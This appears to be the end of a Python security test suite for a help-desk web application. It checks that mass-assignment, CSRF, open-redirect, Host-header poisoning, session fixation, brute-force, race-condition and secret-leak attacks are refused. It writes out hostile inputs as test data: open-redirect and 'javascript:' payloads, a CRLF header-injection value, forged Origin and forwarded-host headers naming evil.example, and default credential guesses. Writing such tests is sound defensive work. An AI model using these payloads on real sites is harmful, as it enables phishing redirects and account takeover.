    a = d.ask('POST', '/api/v1/tickets', {'kind': 'request', 'subject': 'mass', 'text': 'x', **{k: v for k, v in more.items() if k not in ('kind', 'account')}, 'state': 'closed', 'assignee': 1, 'entitlement': 'covered', 'account': 2, 'contact': 1, 'version': 9}, token=write)
    x = a.json
    t.ok('S-36: a customer opens for the own account only, as new', a.status == 201 and x['account'] == 1 and x['state'] == 'new' and x['assignee'] is None and not x['number'].startswith('CAR-1-'), a.text)
    m = d.ask('POST', f"/api/v1/tickets/{x['number']}/messages", {'text': 'mass', 'internal': True, 'author': 'Agent', 'authorKind': 'agent', 'automatic': True, 'at': '2020-01-01T00:00:00Z', 'then': 'waiting'}, token=write)
    t.ok('S-36: and speaks as oneself', m.status == 201 and not m.json['internal'] and m.json['authorKind'] == 'contact' and not m.json['automatic'] and m.json['at'][:4] != '2020', m.text)
    for who, path, form in ((auditor, '/people', {'name': 'x', 'email': 'x@evil.example', 'role': 'manager'}), (manager, '/desk/admin/agents', {'name': 'x', 'email': 'x@evil.example', 'role': 'administrator'})):
        t.ok(f'S-36: {path} makes nobody for who may not', who.post(path, form).status in (403, 404))
    last = contact('manager@campus.example')
    t.ok('S-36: the last manager stays', d.ask('PATCH', f"/api/v1/contacts/{before['manager@campus.example']['id']}", {'roles': []}, token=write).status == 403 and last['roles'])
    b = Browser(d)
    b.sign_in('admin@desk.example')
    agents = b.get('/desk/admin/agents').text
    for i in set(re.findall(r'/desk/admin/agents/(\d+)', agents)):
        if 'admin@desk.example' in b.get(f'/desk/admin/agents/{i}').text.split('<main')[1]:
            b.post(f'/desk/admin/agents/{i}', {'do': 'disable'}, page=f'/desk/admin/agents/{i}')
            b.post(f'/desk/admin/agents/{i}', {'do': 'save', 'name': 'x', 'role': 'agent'}, page=f'/desk/admin/agents/{i}')
    t.eq('S-36: the last administrator stays', b.get('/desk/admin').status, 200)


def sessions(d, sink):
    """S-39 to S-46, S-50"""
    for method in ('GET', 'POST'):
        a = d.ask(method, '/setup', b'product=x&email=a@b.example&password=x' if method == 'POST' else None, headers={'Content-Type': 'application/x-www-form-urlencoded'} if method == 'POST' else {})
        t.eq(f'S-39: {method} /setup is not there', a.status, 404)
    for e, p in (('admin@desk.example', 'admin'), ('admin', 'admin'), ('admin@desk.example', 'password'), ('admin@desk.example', ''), ('root', 'root')):
        t.ok('S-39: there is no password from the box', Browser(d).sign_in(e, p or ' ').status != 303)
    b, other = Browser(d), Browser(d)
    b.cookies = {'session': 'x' * 32}
    a = b.ask('POST', '/sign-in', form={'email': 'manager@campus.example', 'password': d.passwords['manager@campus.example']}, headers={'Origin': f'http://localhost:{d.port}'})
    set_cookie = [c for c in a.headers.get_all('Set-Cookie') or [] if c.startswith('session=')]
    t.ok('S-42: a planted cookie is not kept', a.status == 303 and b.cookies['session'] != 'x' * 32)
    t.ok('S-42: the cookie is no script\'s and no other site\'s', set_cookie and 'HttpOnly' in set_cookie[0] and 'SameSite=Lax' in set_cookie[0] and 'Path=/' in set_cookie[0], set_cookie)
    # S-40
    csrf = b.csrf()
    posts = ['/profile', '/support/new', '/support/new/draft', '/people', '/sign-out', '/profile/password', '/support/new/details']
    evil = [('no token', {}, {}), ('a wrong token', {'csrf': 'x' * 43}, {}), ("another's token", {'csrf': 'o'}, {}), ('a foreign origin', {'csrf': csrf}, {'Origin': 'https://evil.example'}),
            ('a null origin', {'csrf': csrf}, {'Origin': 'null'}), ('cross-site', {'csrf': csrf}, {'Sec-Fetch-Site': 'cross-site'}), ('a look-alike origin', {'csrf': csrf}, {'Origin': f'http://localhost:{d.port}.evil.example'})]
    other.sign_in('manager@colegio.example')
    theirs = other.csrf()
    for path in posts:
        for why, form, head in evil:
            if form.get('csrf') == 'o':
                form = {'csrf': theirs}
            t.eq(f'S-40: {path} with {why}', b.ask('POST', path, form={'name': 'evil', 'kind': 'request', **form}, headers=head).status, 403)
        for kind, data in (('text/plain', b'{"a":1}'), ('application/json', b'{"a":1}'), ('multipart/form-data; boundary=x', b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n')):
            t.ok(f'S-40: {path} as {kind}', b.ask('POST', path, body=data, headers={'Content-Type': kind}).status in (403, 415))
        a = b.get(path)
        t.ok(f'S-40: GET {path} changes nothing', a.status in (200, 303, 404, 405))
    t.eq('S-40: the session is as it was', b.get('/profile').status, 200)
    a = Browser(d)
    a.cookies = dict(b.cookies)
    b.post('/sign-out')
    t.eq('S-42: signing out ends the session, not only the cookie', a.get('/profile').status, 303)
    # S-50
    for w in ('//evil.example', '/\\evil.example', 'https:evil.example', 'https://evil.example', '%09//evil.example', '\t//evil.example', '/%09/evil.example', '/\t/evil.example', 'javascript:alert(1)', 'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=', '///evil.example', '\\\\evil.example', '/..//evil.example', 'http:\\\\evil.example', '/%5cevil.example', '/@evil.example\r\nX: y'):
        b = Browser(d)
        a = b.ask('POST', '/sign-in', form={'email': 'operator@campus.example', 'password': d.passwords['operator@campus.example'], 'next': w})
        to = a['Location'] or ''
        t.ok(f'S-50: next={w!r} stays here', a.status in (303, 422) and re.match(r'(/(?![/\\])|$)', to) and a['X'] is None and '\t' not in to, to)
    # S-44
    t.eq('S-44: another Host is refused', d.ask('POST', '/password/reset', b'email=manager%40campus.example', {'Host': 'evil.example', 'Content-Type': 'application/x-www-form-urlencoded'}).status, 421)
    got = d.raw(f'GET http://evil.example/sign-in HTTP/1.1\r\nHost: localhost:{d.port}\r\nConnection: close\r\n\r\n'.encode())
    t.ok('S-44: nor in the request line', got[9:12] in (b'400', b'421', b'404'), got[:40])
    got = d.raw(f'GET /sign-in HTTP/1.1\r\nHost: localhost:{d.port}\r\nHost: evil.example\r\nConnection: close\r\n\r\n'.encode())
    t.ok('S-44: nor twice', got[9:12] in (b'400', b'421') or not got, got[:40])
    a = d.ask('POST', '/password/reset', b'email=manager%40campus.example', {'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'https', 'Forwarded': 'host=evil.example', 'Content-Type': 'application/x-www-form-urlencoded'})
    raw = sink.wait(lambda to, raw: 'manager@campus.example' in to and b'/password/new/' in raw)
    t.ok('S-44: the link is on our own address', raw and b'evil.example' not in raw and f'http://localhost:{d.port}/password/new/'.encode() in raw.replace(b'=\r\n', b''), a.status)
    for w in ('', '%20', '*', '%25', '%00', 'null', 'true', '[]', 'a' * 1000, '0'):
        t.ok(f'S-44: the token {w[:10]!r} opens nothing', d.ask('GET', '/password/new/' + w).status in (400, 404, 410, 414))
    link = d.command('admin', 'sign-in-link', 'operator@campus.example').strip()
    path = link.split('/', 3)[-1]
    t.eq('S-44: a link of the operator at the shell opens the page', d.ask('GET', '/' + path).status, 200)
    b = Browser(d)
    b.sign_in('operator@campus.example')
    d.command('admin', 'second-factor-off', 'operator@campus.example')
    t.eq('S-42: a second factor that is taken off ends sessions', b.get('/profile').status, 303)
    d.command('admin', 'token', 'x', 'everything', 'operator@campus.example')
    t.ok('S-37: a scope that is none makes no token', d.last.returncode != 0 and 'carrel_' not in d.last.stdout, d.last.stdout)
    # S-45
    words = []
    for e in ('manager@campus.example', 'nobody@nowhere.example', 'auditor@campus.example'):
        a, r = Browser(d).sign_in(e, 'wrong password'), Browser(d).ask('POST', '/password/reset', form={'email': e})
        strip = lambda x: re.sub(r'value="[^"]*"', '', x.text.replace(e, ''))
        words.append((a.status, strip(a), tuple(sorted(a.headers.keys())), r.status, strip(r), tuple(sorted(r.headers.keys()))))
    t.ok('S-45: known, unknown and others are answered alike', words[0] == words[1] == words[2], [w[0::3] for w in words])
    # S-46
    t0 = time.monotonic()
    a = Browser(d).sign_in('agent@desk.example', 'x' * 1000000)
    t.ok('S-46: a megabyte of password is refused fast', a.status in (400, 413, 422) and time.monotonic() - t0 < 1, (a.status, time.monotonic() - t0))
    # S-43
    got = [Browser(d).sign_in('agent@desk.example', f'wrong {i}') for i in range(14)]
    t.ok('S-43: the eleventh try is refused, and told when to come back', got[-1].status == 429 and int(got[-1]['Retry-After']) > 0 and sum(x.status != 429 for x in got) <= 10, [x.status for x in got])
    t.eq('S-43: right or wrong', Browser(d).sign_in('agent@desk.example').status, 429)


def once(d, sink):
    """S-54: the button pressed twenty times at once is one ticket and one mail."""
    b = Browser(d)
    b.sign_in('operator@campus.example')
    csrf = b.csrf()
    b.ask('POST', '/support/new', form={'kind': 'request', 'csrf': csrf})
    page = b.get('/support/new/details').text
    form = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', page))
    parts = {**form, 'summary': 'double-click', 'text': 'once'}
    body = ''.join(f'--x\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in parts.items()) + '--x--\r\n'
    head = {'Content-Type': 'multipart/form-data; boundary=x', 'Cookie': '; '.join(f'{k}={v}' for k, v in b.cookies.items())}
    with ThreadPoolExecutor(20) as pool:
        got = list(pool.map(lambda _: d.ask('POST', '/support/new/details', body.encode(), head), range(20)))
    t.ok('S-54: all are told of it', {a.status for a in got} <= {303, 409}, [a.status for a in got])
    token = d.token('read', 'operator@campus.example', 'once')
    t.eq('S-54: one ticket', sum('double-click' in x['subject'] for x in pages(d, token)), 1)
    sink.wait(lambda to, raw: 'operator@campus.example' in to and b'double-click' in raw)
    time.sleep(1)
    t.eq('S-54: one mail', sum('operator@campus.example' in to and b'double-click' in raw for _, to, raw in sink.mails), 1)


def secrets(d, tokens, admin_page, smtp_password):
    """S-32, S-37, S-46, S-53: what is secret is nowhere."""
    for path in DESK + ['/metrics', '/healthz', '/profile']:
        a = admin_page.get(path).text
        t.ok(f'S-53: {path} shows no secret', smtp_password not in a and not any(x in a for x in tokens) and 'argon2' not in a)
    d.stop()
    secret = open(os.path.join(d.data, 'secret')).read().split()
    kept = b''.join(open(os.path.join(r, f), 'rb').read() for r, _, fs in os.walk(d.data) for f in fs if f not in ('SIGN-INS.txt', 'secret'))
    for x in tokens:
        t.ok('S-37: a token is nowhere in what is kept', x.encode() not in kept and x[7:].encode() not in kept)
    for x in d.passwords.values():
        t.ok('S-46: nor is a password', x.encode() not in kept)
    log = d.log_text()
    for x in [*tokens, *d.passwords.values(), smtp_password, *[s for s in secret if len(s) > 20], 'wrong password', '/password/new/']:
        t.ok('S-46, S-53: nor is it in the log', x not in re.sub(r'route=\S*', '', log), x[:6])
    for r, ds, fs in os.walk(d.data):
        for f in ds + fs:
            t.ok(f'S-53: {f[:30]} is nobody else\'s on this machine', os.stat(os.path.join(r, f)).st_mode & 0o077 == 0)
    t.ok('S-53: nor the folder', os.stat(d.data).st_mode & 0o077 == 0)
    t.ok('the server ends clean', not re.search('Sanitizer|runtime error', log), log[-1500:])


def main():
    sink = Sink()
    smtp_password = 'CANARY-' + os.urandom(8).hex()
    with Desk(sys.argv[1] if len(sys.argv) > 1 else None, flags=['--smtp-url', f'smtp://127.0.0.1:{sink.port}', '--authserv-id', 'mx.desk.example']) as d:
        tokens = [d.token('write', 'manager@campus.example'), d.token('admin', 'admin@desk.example')]
        write, admin = tokens
        manager, agent, admin_page = Browser(d), Browser(d), Browser(d)
        for b, who in ((manager, 'manager@campus.example'), (agent, 'agent@desk.example'), (admin_page, 'admin@desk.example')):
            b.sign_in(who)
        identity(d, sink, write, agent, admin)  # first: automatic mails to one address are counted (S-18)
        headers_out(d, sink, write, admin)
        mails_as_pages(d, admin, agent, manager)
        attachments(d, write, manager, agent, admin)
        smuggling(d)
        traversal(d, admin)
        parameters(d, admin_page, manager, admin)
        mass(d, manager, write, admin)
        once(d, sink)
        sessions(d, sink)
        secrets(d, tokens, admin_page, smtp_password)
    sink.close()


if __name__ == '__main__':
    main()
    t.end()
